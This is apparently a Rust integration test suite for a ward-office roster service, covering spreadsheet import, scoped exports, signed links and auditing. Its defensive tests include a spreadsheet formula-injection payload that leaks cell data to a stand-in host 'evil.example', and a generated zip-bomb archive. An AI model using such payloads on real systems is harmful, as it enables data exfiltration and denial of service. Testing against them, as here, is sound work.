//! Ward-office spreadsheets: importing a roster from the XLSX or CSV an office keeps (dry run,
//! commit, re-import), refusing what cannot be read, and exporting rosters as CSV and XLSX with
//! the same scope and personal-data rules as the GraphQL reads.

use std::io::Cursor;

use cdtg_api::ids::NodeType;
use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::fixture::{Fixture, PASSWORD, gid, users};
use crate::helpers::{Backend, TestApp};
use crate::on_both_databases;

/// A roster written by openpyxl (see fixtures/sheets/make_fixtures.py): a merged title row,
/// phones stored as numbers, one row with an impossible phone (row 7).
const ROSTER_XLSX: &[u8] = include_bytes!("fixtures/sheets/roster-phuoc-my.xlsx");

const IMPORT_MEMBERS: &str = r#"mutation($input: ImportSheetInput!) {
  importMembers(input: $input) {
    committed created updated unchanged refused ignoredColumns
    rows { row outcome key problems { column message } }
  }
}"#;

/// Sends `query` as a GraphQL multipart request with `file` as `variables.input.file`.
async fn upload(
    app: &TestApp,
    token: &str,
    query: &str,
    mut variables: Value,
    filename: &str,
    file: &[u8],
) -> (StatusCode, Value) {
    variables["input"]["file"] = Value::Null;
    let operations = json!({ "query": query, "variables": variables }).to_string();
    let map = json!({ "0": ["variables.input.file"] }).to_string();
    let boundary = "----cdtg-test-boundary-7c1f";
    let mut body = Vec::new();
    for (name, value) in [("operations", operations), ("map", map)] {
        body.extend_from_slice(
            format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
            )
            .as_bytes(),
        );
    }
    body.extend_from_slice(
        format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"0\"; filename=\"{filename}\"\r\nContent-Type: application/octet-stream\r\n\r\n"
        )
        .as_bytes(),
    );
    body.extend_from_slice(file);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    let res = app
        .client
        .post(format!("{}/graphql", app.address))
        .bearer_auth(token)
        .header(
            "content-type",
            format!("multipart/form-data; boundary={boundary}"),
        )
        .body(body)
        .send()
        .await
        .expect("request reaches the server");
    let status = res.status();
    (status, res.json().await.expect("JSON body"))
}

async fn import_members(
    app: &TestApp,
    token: &str,
    unit: i64,
    commit: bool,
    filename: &str,
    file: &[u8],
) -> Value {
    let (status, body) = upload(
        app,
        token,
        IMPORT_MEMBERS,
        json!({ "input": { "unitId": gid(NodeType::AdminUnit, unit), "commit": commit } }),
        filename,
        file,
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(body.get("errors").is_none(), "{body}");
    body["data"]["importMembers"].clone()
}

fn outcomes(report: &Value) -> Vec<(i64, String)> {
    report["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["row"].as_i64().unwrap(),
                r["outcome"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

async fn member_count(app: &TestApp, token: &str) -> i64 {
    app.ok(token, "{ members { totalCount } }", json!({})).await["members"]["totalCount"]
        .as_i64()
        .unwrap()
}

async fn xlsx_roster_dry_run_commit_and_reimport(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let f = Fixture::load(&app).await;
    let token = app.login(users::WARD_A1, PASSWORD).await;
    let before = member_count(&app, &token).await;

    let dry = import_members(&app, &token, f.ward_a1, false, "roster.xlsx", ROSTER_XLSX).await;
    assert_eq!(dry["committed"], false);
    assert_eq!(
        outcomes(&dry),
        [
            (4, "CREATED".to_owned()),
            (5, "CREATED".to_owned()),
            (6, "CREATED".to_owned()),
            (7, "REFUSED".to_owned()),
            (8, "UNCHANGED".to_owned()),
        ],
        "{dry}"
    );
    let bad = &dry["rows"][3];
    assert_eq!(bad["problems"][0]["column"], "Số điện thoại", "{bad}");
    assert_eq!(dry["ignoredColumns"], json!(["STT"]));
    assert_eq!(
        member_count(&app, &token).await,
        before,
        "a dry run writes nothing"
    );

    let committed = import_members(&app, &token, f.ward_a1, true, "roster.xlsx", ROSTER_XLSX).await;
    assert_eq!(committed["committed"], true);
    assert_eq!(
        (
            &committed["created"],
            &committed["refused"],
            &committed["unchanged"]
        ),
        (&json!(3), &json!(1), &json!(1))
    );
    assert_eq!(member_count(&app, &token).await, before + 3);
    let data = app
        .ok(
            &token,
            r#"{ members(filter: { search: "0912345679" }) { nodes { fullName phone affiliation trainedOn memberships { role group { name } } } } }"#,
            json!({}),
        )
        .await;
    assert_eq!(
        data["members"]["nodes"][0],
        json!({ "fullName": "Võ Thị Sáu", "phone": "+84912345679", "affiliation": "WOMENS_UNION", "trainedOn": "2025-03-15",
                "memberships": [{ "role": "MEMBER", "group": { "name": "Tổ CNSCĐ Tổ dân phố 1 – Phước Mỹ" } }] })
    );

    let again = import_members(&app, &token, f.ward_a1, true, "roster.xlsx", ROSTER_XLSX).await;
    assert_eq!(
        (
            &again["created"],
            &again["updated"],
            &again["unchanged"],
            &again["refused"]
        ),
        (&json!(0), &json!(0), &json!(4), &json!(1)),
        "re-importing the same file changes nothing: {again}"
    );
    assert_eq!(member_count(&app, &token).await, before + 3);
}

/// CSV as Excel saves it on Vietnamese Windows: UTF-16 with a BOM, tab-separated ("Unicode
/// text"), or UTF-8 with a BOM and semicolons; headings in other spellings.
async fn csv_encodings_duplicates_and_scope(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let f = Fixture::load(&app).await;
    let token = app.login(users::WARD_A1, PASSWORD).await;
    let text = "DANH SÁCH\n\
                HỌ TÊN\tSĐT\tĐơn vị\tĐoàn thể\n\
                Ngô Văn Nam\t0901 222 333\tTổ dân phố 1\tCông an\n\
                Ngô Văn Bắc\t0901222333\tTổ dân phố 1\tCông an\n\
                Lý Thị Mai\t0903 444 555\tAn Hải Bắc\tKhác\n\
                Hồ Văn Lộc\t0905 123 456\t\tNgười dân\n\
                \n\t\t\n";
    let mut utf16 = vec![0xFF, 0xFE];
    for unit in text.encode_utf16() {
        utf16.extend_from_slice(&unit.to_le_bytes());
    }
    let report = import_members(&app, &token, f.ward_a1, false, "roster.txt", &utf16).await;
    assert_eq!(
        outcomes(&report),
        [
            (3, "CREATED".to_owned()),
            (4, "REFUSED".to_owned()),
            (5, "REFUSED".to_owned()),
            (6, "REFUSED".to_owned()),
        ],
        "{report}"
    );
    let problem = |i: usize| report["rows"][i]["problems"][0].clone();
    assert_eq!(problem(1)["column"], "Số điện thoại");
    assert!(
        problem(1)["message"].as_str().unwrap().contains("row 3"),
        "a duplicate within the file names the first row: {report}"
    );
    assert_eq!(
        problem(2)["column"],
        "Tổ dân phố",
        "a unit outside the ward is unknown: {report}"
    );
    assert!(
        problem(3)["message"]
            .as_str()
            .unwrap()
            .contains("Nguyễn Văn Chung"),
        "a phone of another member is reported, not merged: {report}"
    );

    let semicolons = "\u{feff}Họ và tên;Số điện thoại;Tổ công nghệ số\n\
                      Lê Minh Tuấn;0935111222;Tổ CNSCĐ An Hải Bắc\n";
    let report = import_members(
        &app,
        &token,
        f.ward_a1,
        false,
        "r.csv",
        semicolons.as_bytes(),
    )
    .await;
    assert_eq!(
        report["rows"][0]["problems"][0]["column"], "Tổ công nghệ số",
        "a group outside the ward is unknown: {report}"
    );

    // A member in one group whom the file puts in another group of the same kind.
    let admin = app.login(users::ADMIN, PASSWORD).await;
    let other_group = app
        .ok(
            &admin,
            r#"mutation($u: ID!) { createGroup(input: { name: "Tổ CNSCĐ Tổ dân phố 2", kind: COMMUNITY, unitId: $u }) { group { id } } }"#,
            json!({ "u": gid(NodeType::AdminUnit, f.ward_a1) }),
        )
        .await;
    assert!(other_group["createGroup"]["group"]["id"].is_string());
    let moved =
        "Họ và tên,Số điện thoại,Tổ công nghệ số\nTrần Thị Hà,0912345678,Tổ CNSCĐ Tổ dân phố 2\n";
    let report = import_members(&app, &token, f.ward_a1, true, "m.csv", moved.as_bytes()).await;
    assert_eq!(report["refused"], 1, "{report}");
    assert_eq!(
        report["rows"][0]["problems"][0]["column"],
        "Tổ công nghệ số"
    );

    // Outside the importer's scope the unit itself does not exist.
    let (_, body) = upload(
        &app,
        &token,
        IMPORT_MEMBERS,
        json!({ "input": { "unitId": gid(NodeType::AdminUnit, f.ward_b1) } }),
        "r.csv",
        semicolons.as_bytes(),
    )
    .await;
    assert_eq!(body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT");
    assert_eq!(body["errors"][0]["extensions"]["field"], "unitId");
    let viewer = app.login(users::VIEWER, PASSWORD).await;
    let (_, body) = upload(
        &app,
        &viewer,
        IMPORT_MEMBERS,
        json!({ "input": { "unitId": gid(NodeType::AdminUnit, f.ward_a1) } }),
        "r.csv",
        semicolons.as_bytes(),
    )
    .await;
    assert_eq!(body["errors"][0]["extensions"]["code"], "FORBIDDEN");
}

async fn unreadable_files_are_refused_with_a_reason(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let f = Fixture::load(&app).await;
    let token = app.login(users::WARD_A1, PASSWORD).await;
    let vars =
        json!({ "input": { "unitId": gid(NodeType::AdminUnit, f.ward_a1), "commit": true } });
    let refused = |body: &Value| {
        (
            body["errors"][0]["extensions"]["code"].clone(),
            body["errors"][0]["extensions"]["field"].clone(),
            body["errors"][0]["message"]
                .as_str()
                .unwrap_or_default()
                .to_owned(),
        )
    };

    let (_, body) = upload(
        &app,
        &token,
        IMPORT_MEMBERS,
        vars.clone(),
        "x.csv",
        b"Name;Age\nA;1\n",
    )
    .await;
    let (code, field, message) = refused(&body);
    assert_eq!((code, field), (json!("BAD_USER_INPUT"), json!("file")));
    assert!(
        message.contains("Họ và tên") && message.contains("Số điện thoại"),
        "{message}"
    );

    let (_, body) = upload(
        &app,
        &token,
        IMPORT_MEMBERS,
        vars.clone(),
        "x.xlsx",
        b"PK\x03\x04not a zip",
    )
    .await;
    assert_eq!(refused(&body).1, json!("file"), "{body}");

    // A zip bomb: a part that declares gigabytes is refused before it is inflated.
    let (_, body) = upload(
        &app,
        &token,
        IMPORT_MEMBERS,
        vars.clone(),
        "bomb.xlsx",
        &zip_bomb(),
    )
    .await;
    let (code, field, message) = refused(&body);
    assert_eq!(
        (code, field),
        (json!("BAD_USER_INPUT"), json!("file")),
        "{body}"
    );
    assert!(message.contains("inflate"), "{message}");

    // Over the size limit (10 MB by default).
    let big = vec![b'a'; 10 * 1024 * 1024 + 10];
    let (status, body) = upload(&app, &token, IMPORT_MEMBERS, vars.clone(), "big.csv", &big).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{body}");
    assert_eq!(refused(&body).1, json!("file"));

    // An upload placeholder typed into JSON variables is refused, never resolved.
    let (_, body) = app
        .gql(
            Some(&token),
            IMPORT_MEMBERS,
            json!({ "input": { "unitId": gid(NodeType::AdminUnit, f.ward_a1), "file": "#__graphql_file__:3" } }),
        )
        .await;
    assert_eq!(
        body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT",
        "{body}"
    );
    assert_eq!(member_count(&app, &token).await, 3, "nothing was written");
}

/// An XLSX-looking archive whose one part declares 4 GB of zeros.
fn zip_bomb() -> Vec<u8> {
    use std::io::Write;
    let mut out = Cursor::new(Vec::new());
    {
        let mut zip = zip::ZipWriter::new(&mut out);
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated)
            .large_file(true);
        zip.start_file("xl/worksheets/sheet1.xml", options).unwrap();
        let zeros = vec![0u8; 1024 * 1024];
        for _ in 0..300 {
            zip.write_all(&zeros).unwrap();
        }
        zip.finish().unwrap();
    }
    out.into_inner()
}

/// GETs an export with a bearer credential.
async fn export(app: &TestApp, token: &str, path: &str) -> (StatusCode, Vec<u8>) {
    let res = app
        .client
        .get(format!("{}{path}", app.address))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    let status = res.status();
    (status, res.bytes().await.unwrap().to_vec())
}

fn xlsx_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    use calamine::{Reader, Xlsx};
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes.to_vec())).unwrap();
    let range = book.worksheet_range_at(0).unwrap().unwrap();
    range
        .rows()
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect()
}

fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).unwrap();
    let text = text.strip_prefix('\u{feff}').expect("a BOM for Excel");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

async fn roster_exports_match_the_roster_and_its_scope(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let f = Fixture::load(&app).await;
    let token = app.login(users::WARD_A1, PASSWORD).await;
    import_members(&app, &token, f.ward_a1, true, "roster.xlsx", ROSTER_XLSX).await;
    let unit = gid(NodeType::AdminUnit, f.ward_a1).to_string();

    let (status, xlsx) = export(&app, &token, &format!("/exports/roster.xlsx?unitId={unit}")).await;
    assert_eq!(status, StatusCode::OK);
    let rows = xlsx_rows(&xlsx);
    assert_eq!(rows[0][..2], ["Họ và tên", "Số điện thoại"]);
    let mut names: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
    names.sort();
    let data = app
        .ok(
            &token,
            "{ members(first: 100) { nodes { fullName } } }",
            json!({}),
        )
        .await;
    let mut expected: Vec<&str> = data["members"]["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n["fullName"].as_str().unwrap())
        .collect();
    expected.sort();
    assert_eq!(names, expected, "the same people as the GraphQL read");
    let sau = rows.iter().find(|r| r[0] == "Võ Thị Sáu").unwrap();
    assert_eq!(sau[1], "0912345679");

    // The exported roster imports again without a change.
    let again = import_members(&app, &token, f.ward_a1, false, "export.xlsx", &xlsx).await;
    assert_eq!(
        (&again["created"], &again["updated"], &again["refused"]),
        (&json!(0), &json!(0), &json!(0)),
        "{again}"
    );

    // CSV: the same rows, streamed.
    let (status, csv) = export(&app, &token, &format!("/exports/roster.csv?unitId={unit}")).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(csv_rows(&csv).len(), rows.len());

    // A ward leader's export holds their ward only.
    let other = app.login(users::WARD_A2, PASSWORD).await;
    let (_, csv) = export(&app, &other, "/exports/roster.csv").await;
    let names: Vec<String> = csv_rows(&csv)[1..].iter().map(|r| r[0].clone()).collect();
    assert_eq!(names, ["Phạm Ngọc Lan"]);
    // Units are public, their members are not: another ward's roster is empty, as the GraphQL
    // read `members(filter: { unitId })` is.
    let (status, csv) = export(&app, &other, &format!("/exports/roster.csv?unitId={unit}")).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(csv_rows(&csv).len(), 1, "the headings only");

    // A viewer gets aggregates: no names, no phones.
    let viewer = app.login(users::VIEWER, PASSWORD).await;
    let (status, xlsx) = export(&app, &viewer, "/exports/roster.xlsx").await;
    assert_eq!(status, StatusCode::OK);
    let rows = xlsx_rows(&xlsx);
    assert_eq!(rows[0], ["Đơn vị", "Số tổ", "Số thành viên"]);
    let flat = rows.concat().join("|");
    assert!(
        !flat.contains("Nguyễn Văn Chung") && !flat.contains("0905"),
        "{flat}"
    );

    // No credential: 401; audited: who exported whose personal data.
    let res = app
        .client
        .get(format!("{}/exports/roster.csv", app.address))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    let admin = app.login(users::ADMIN, PASSWORD).await;
    let events = app
        .ok(
            &admin,
            "{ auditEvents(first: 50) { nodes { action actor detail } } }",
            json!({}),
        )
        .await;
    let exports: Vec<&Value> = events["auditEvents"]["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"] == "exportRoster")
        .collect();
    assert!(
        exports.iter().any(|e| e["actor"] == users::WARD_A1
            && e["detail"]
                .as_str()
                .unwrap()
                .contains("personal columns: yes")),
        "{exports:?}"
    );
    assert!(
        exports.iter().any(|e| e["actor"] == users::VIEWER
            && e["detail"]
                .as_str()
                .unwrap()
                .contains("personal columns: no")),
        "{exports:?}"
    );
}

async fn formulas_are_neutralised_and_links_expire_with_their_export(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let f = Fixture::load(&app).await;
    let token = app.login(users::WARD_A1, PASSWORD).await;
    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"Xem")"#;
    app.ok(
        &token,
        r#"mutation($u: ID!, $n: String!) { createGroup(input: { name: $n, kind: COMMUNITY, unitId: $u }) { group { id } } }"#,
        json!({ "u": gid(NodeType::AdminUnit, f.ward_a1), "n": evil }),
    )
    .await;
    let (_, csv) = export(&app, &token, "/exports/groups.csv").await;
    let rows = csv_rows(&csv);
    let cell = rows.iter().find(|r| r[0].contains("HYPERLINK")).unwrap();
    assert_eq!(cell[0], format!("'{evil}"));
    let member_counts: Vec<&str> = rows[1..].iter().map(|r| r[6].as_str()).collect();
    assert!(
        member_counts.contains(&"3"),
        "counts stay numbers: {rows:?}"
    );
    let (_, xlsx) = export(&app, &token, "/exports/groups.xlsx").await;
    let rows = xlsx_rows(&xlsx);
    assert!(rows.iter().any(|r| r[0] == format!("'{evil}")), "{rows:?}");

    // A signed link works without a credential, for that export only, and not once expired
    // or forged.
    let link = app
        .ok(
            &token,
            "mutation { createExportLink(input: { kind: ROSTER, format: CSV }) { url expiresAt } }",
            json!({}),
        )
        .await;
    let url = link["createExportLink"]["url"].as_str().unwrap().to_owned();
    let res = app
        .client
        .get(format!("{}{url}", app.address))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert!(
        csv_rows(&res.bytes().await.unwrap())
            .iter()
            .any(|r| r[0] == "Nguyễn Văn Chung")
    );
    let other = url.replace("/exports/roster.csv", "/exports/tasks.csv");
    let res = app
        .client
        .get(format!("{}{other}", app.address))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    let forged = format!("{}x", url);
    let res = app
        .client
        .get(format!("{}{forged}", app.address))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    let body: Value = res.json().await.unwrap();
    assert_eq!(body["errors"][0]["extensions"]["code"], "UNAUTHENTICATED");

    // A script with an API key gets links too: they act with the key's role and scope, and
    // die with the key.
    let key = app
        .ok(
            &token,
            "mutation($u: ID!) { createApiKey(input: { name: \"báo cáo tháng\", role: WARD_LEADER, scopeUnitId: $u }) { secret apiKey { id } } }",
            json!({ "u": gid(NodeType::AdminUnit, f.ward_a1) }),
        )
        .await;
    let secret = key["createApiKey"]["secret"].as_str().unwrap().to_owned();
    let link = app
        .ok(
            &secret,
            "mutation { createExportLink(input: { kind: ROSTER, format: XLSX }) { url } }",
            json!({}),
        )
        .await;
    let url = link["createExportLink"]["url"].as_str().unwrap().to_owned();
    let res = app
        .client
        .get(format!("{}{url}", app.address))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let rows = xlsx_rows(&res.bytes().await.unwrap());
    assert!(rows.iter().any(|r| r[0] == "Nguyễn Văn Chung"), "{rows:?}");
    app.ok(
        &token,
        "mutation($id: ID!) { revokeApiKey(input: {id: $id}) { apiKey { id } } }",
        json!({ "id": key["createApiKey"]["apiKey"]["id"] }),
    )
    .await;
    let res = app
        .client
        .get(format!("{}{url}", app.address))
        .send()
        .await
        .unwrap();
    assert_eq!(
        res.status(),
        StatusCode::UNAUTHORIZED,
        "the key was revoked"
    );

    // Templates carry the headings an import reads.
    let res = app
        .client
        .get(format!("{}/templates/members.xlsx", app.address))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let rows = xlsx_rows(&res.bytes().await.unwrap());
    assert_eq!(rows[0][..3], ["Họ và tên", "Số điện thoại", "Tổ dân phố"]);
}

/// `cdtg import members FILE --unit NAME`: a dry run, then `--commit`.
async fn command_line_import(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let _f = Fixture::load(&app).await;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("roster.xlsx");
    std::fs::write(&path, ROSTER_XLSX).unwrap();
    let file = path.to_str().unwrap();
    let url = app.db.url().to_owned();
    let (ok, out) = crate::going_live::cdtg(
        &url,
        &["import", "members", file, "--unit", "Phước Mỹ", "--strict"],
        &[],
    );
    assert!(
        !ok,
        "with --strict a refused row makes the exit status 1: {out}"
    );
    assert!(out.contains("row 7\tREFUSED"), "{out}");
    assert!(
        out.contains("3 created, 0 updated, 1 unchanged, 1 refused (dry run"),
        "{out}"
    );
    let (ok, out) = crate::going_live::cdtg(
        &url,
        &["import", "members", file, "--unit", "Phước Mỹ", "--commit"],
        &[],
    );
    assert!(ok, "{out}");
    assert!(out.contains("(committed)"), "{out}");
    // Its progress, on standard error: every row read and checked; the four that are not
    // refused applied.
    for phase in [
        "import: [",
        "rows read: ",
        "rows checked: ",
        "rows applied: 4 of 4",
    ] {
        assert!(out.contains(phase), "no {phase:?} in {out}");
    }
    let token = app.login(users::WARD_A1, PASSWORD).await;
    assert_eq!(member_count(&app, &token).await, 6);
}

/// A stats breakdown exports exactly the figures the GraphQL read answers, for any role that
/// may read statistics; a malformed one is refused naming the parameter.
async fn stats_breakdowns_export_as_graphql_answers_them(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let f = Fixture::load(&app).await;
    let district = app.login(users::DISTRICT_A, PASSWORD).await;
    let unit = gid(NodeType::AdminUnit, f.district_a).to_string();
    let read = app
        .ok(
            &district,
            "query($u: ID!) { statsBreakdown(unitId: $u, by: [CHILD_UNIT]) { rows { unit { name } stats { groups members activeGroups } } } }",
            json!({ "u": unit }),
        )
        .await;
    let expected: Vec<Vec<String>> = read["statsBreakdown"]["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            vec![
                r["unit"]["name"].as_str().unwrap_or("").to_owned(),
                r["stats"]["groups"].to_string(),
                r["stats"]["members"].to_string(),
                r["stats"]["activeGroups"].to_string(),
            ]
        })
        .collect();
    assert!(expected.len() >= 2, "{read}");
    let (status, csv) = export(
        &app,
        &district,
        &format!("/exports/stats-breakdown.csv?unitId={unit}&by=CHILD_UNIT&fields=groups,members,activeGroups"),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{}", String::from_utf8_lossy(&csv));
    let rows = csv_rows(&csv);
    assert_eq!(rows[0], ["Đơn vị", "Số tổ", "Thành viên", "Tổ hoạt động"]);
    assert_eq!(rows[1..], expected[..]);

    // A VIEWER (aggregates only) may export statistics too, here through a link, as XLSX, with
    // every figure that splits by task status.
    let viewer = app.login(users::VIEWER, PASSWORD).await;
    let link = app
        .ok(
            &viewer,
            "mutation($u: ID!) { createExportLink(input: { kind: STATS_BREAKDOWN, format: XLSX, unitId: $u, breakdown: { by: [CHILD_UNIT, TASK_STATUS] } }) { url } }",
            json!({ "u": unit }),
        )
        .await;
    let url = link["createExportLink"]["url"].as_str().unwrap();
    let res = app
        .client
        .get(format!("{}{url}", app.address))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let rows = xlsx_rows(&res.bytes().await.unwrap());
    assert_eq!(
        rows[0],
        [
            "Đơn vị",
            "Trạng thái nhiệm vụ",
            "Nhiệm vụ",
            "Nhiệm vụ quá hạn",
            "Tỷ lệ hoàn thành"
        ]
    );
    let graphql = app
        .ok(
            &viewer,
            "query($u: ID!) { statsBreakdown(unitId: $u, by: [CHILD_UNIT, TASK_STATUS]) { rows { stats { tasks } } } }",
            json!({ "u": unit }),
        )
        .await;
    let tasks: i64 = graphql["statsBreakdown"]["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["stats"]["tasks"].as_i64().unwrap())
        .sum();
    let exported: i64 = rows[1..].iter().map(|r| r[2].parse::<i64>().unwrap()).sum();
    assert_eq!(exported, tasks);
    assert_eq!(
        rows.len() - 1,
        graphql["statsBreakdown"]["rows"].as_array().unwrap().len()
    );

    // Refusals name what is wrong.
    for (path, field) in [
        (
            format!("/exports/stats-breakdown.csv?unitId={unit}&by=NOPE"),
            "by",
        ),
        (format!("/exports/stats-breakdown.csv?unitId={unit}"), "by"),
        (
            format!("/exports/stats-breakdown.csv?unitId={unit}&by=CHILD_UNIT&fields=nope"),
            "fields",
        ),
        (
            format!("/exports/stats-breakdown.csv?unitId={unit}&by=CHILD_UNIT&from=yesterday"),
            "from",
        ),
        (
            "/exports/stats-breakdown.csv?by=CHILD_UNIT".to_owned(),
            "unitId",
        ),
    ] {
        let (status, body) = export(&app, &district, &path).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{path}");
        let body: Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(
            body["errors"][0]["extensions"]["code"], "BAD_USER_INPUT",
            "{body}"
        );
        assert_eq!(
            body["errors"][0]["extensions"]["field"], field,
            "{path}: {body}"
        );
    }
    // A figure the dimension does not split is the breakdown's own refusal.
    let (status, body) = export(
        &app,
        &district,
        &format!("/exports/stats-breakdown.csv?unitId={unit}&by=TASK_STATUS&fields=members"),
    )
    .await;
    assert_eq!(
        status,
        StatusCode::BAD_REQUEST,
        "{}",
        String::from_utf8_lossy(&body)
    );
    // Another district's statistics are refused exactly as the GraphQL read refuses them.
    let other = gid(NodeType::AdminUnit, f.district_b).to_string();
    let code = app
        .error_code(
            Some(&district),
            "query($u: ID!) { statsBreakdown(unitId: $u, by: [CHILD_UNIT]) { rows { stats { groups } } } }",
            json!({ "u": other }),
        )
        .await;
    let (status, body) = export(
        &app,
        &district,
        &format!("/exports/stats-breakdown.csv?unitId={other}&by=CHILD_UNIT"),
    )
    .await;
    let body: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(
        body["errors"][0]["extensions"]["code"],
        code.as_str(),
        "{body}"
    );
    assert!(status.is_client_error(), "{status}");

    // The export is audited with what was asked.
    let admin = app.login(users::ADMIN, PASSWORD).await;
    let events = app
        .ok(
            &admin,
            "{ auditEvents(first: 100) { nodes { action detail } } }",
            json!({}),
        )
        .await;
    let audited = events["auditEvents"]["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"] == "exportStatsBreakdown")
        .map(|e| e["detail"].as_str().unwrap_or("").to_owned())
        .collect::<Vec<_>>();
    assert!(
        audited
            .iter()
            .any(|d| d.contains("by CHILD_UNIT,TASK_STATUS")),
        "{audited:?}"
    );
}

async fn ward_members(app: &TestApp, token: &str, ward: i64) -> i64 {
    app.ok(
        token,
        "query($w: ID!) { node(id: $w) { ... on AdminUnit { stats { members } } } }",
        json!({ "w": gid(NodeType::AdminUnit, ward) }),
    )
    .await["node"]["stats"]["members"]
        .as_i64()
        .unwrap()
}

/// A roster of a few hundred new people commits in batches: about one statement per new
/// member (its row), not one per look-up and membership, with the same result as one by one —
/// memberships, a new leader, the ward's figures.
async fn a_large_roster_commits_in_batches(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let f = Fixture::load(&app).await;
    let token = app.login(users::WARD_A1, PASSWORD).await;
    let members_before = member_count(&app, &token).await;
    let ward_before = ward_members(&app, &token, f.ward_a1).await;
    const ROWS: usize = 300;
    let mut csv = String::from("Họ và tên,Số điện thoại,Tổ dân phố,Tổ công nghệ số,Chức vụ\n");
    csv.push_str(
        "Đặng Văn Trưởng,0977000000,,Tổ chỉ đạo chuyển đổi số phường Phước Mỹ,Tổ trưởng\n",
    );
    for i in 1..ROWS {
        let group = if i % 2 == 0 {
            "Tổ CNSCĐ Tổ dân phố 1 – Phước Mỹ"
        } else {
            ""
        };
        let given = ["Lan", "Hoa", "Mai", "Cúc", "Đào", "Huệ"][i % 6];
        csv.push_str(&format!(
            "Phạm Thị {given},0977{i:06},Tổ dân phố 1,{group},\n"
        ));
    }
    let dry = import_members(&app, &token, f.ward_a1, false, "big.csv", csv.as_bytes()).await;
    assert_eq!(dry["created"], json!(ROWS), "{}", dry["rows"][1]);

    let statements_before = app.statements();
    let committed = import_members(&app, &token, f.ward_a1, true, "big.csv", csv.as_bytes()).await;
    let statements = app.statements() - statements_before;
    assert_eq!(
        (&committed["created"], &committed["refused"]),
        (&json!(ROWS), &json!(0))
    );
    // One INSERT per new member, and a handful per batch: reading the file's units, groups and
    // phones, the memberships in multi-row INSERTs, the leader. Row by row it was five or more
    // per member.
    assert!(
        statements <= ROWS as u64 + 60,
        "{statements} statements for {ROWS} new members"
    );
    assert_eq!(
        member_count(&app, &token).await,
        members_before + ROWS as i64
    );

    let groups = app
        .ok(
            &token,
            r#"query($a: ID!, $m: ID!) {
                 a: node(id: $a) { ... on Group { members(first: 1) { totalCount } } }
                 m: node(id: $m) { ... on Group { leader { fullName phone } memberships { role } } }
               }"#,
            json!({
                "a": gid(NodeType::Group, f.group_a1),
                "m": gid(NodeType::Group, f.group_a1_management),
            }),
        )
        .await;
    assert_eq!(
        groups["a"]["members"]["totalCount"],
        json!(3 + (ROWS - 1) / 2)
    );
    assert_eq!(
        ward_members(&app, &token, f.ward_a1).await,
        ward_before + ROWS as i64,
        "the ward's figures count every new member (the rollups follow bulk inserts)"
    );
    assert_eq!(
        groups["m"]["leader"],
        json!({ "fullName": "Đặng Văn Trưởng", "phone": "+84977000000" })
    );
    assert!(
        groups["m"]["memberships"]
            .as_array()
            .unwrap()
            .contains(&json!({ "role": "LEADER" }))
    );
}

on_both_databases!(
    stats_breakdowns_export_as_graphql_answers_them,
    a_large_roster_commits_in_batches,
    xlsx_roster_dry_run_commit_and_reimport,
    csv_encodings_duplicates_and_scope,
    unreadable_files_are_refused_with_a_reason,
    roster_exports_match_the_roster_and_its_scope,
    formulas_are_neutralised_and_links_expire_with_their_export,
    command_line_import,
);
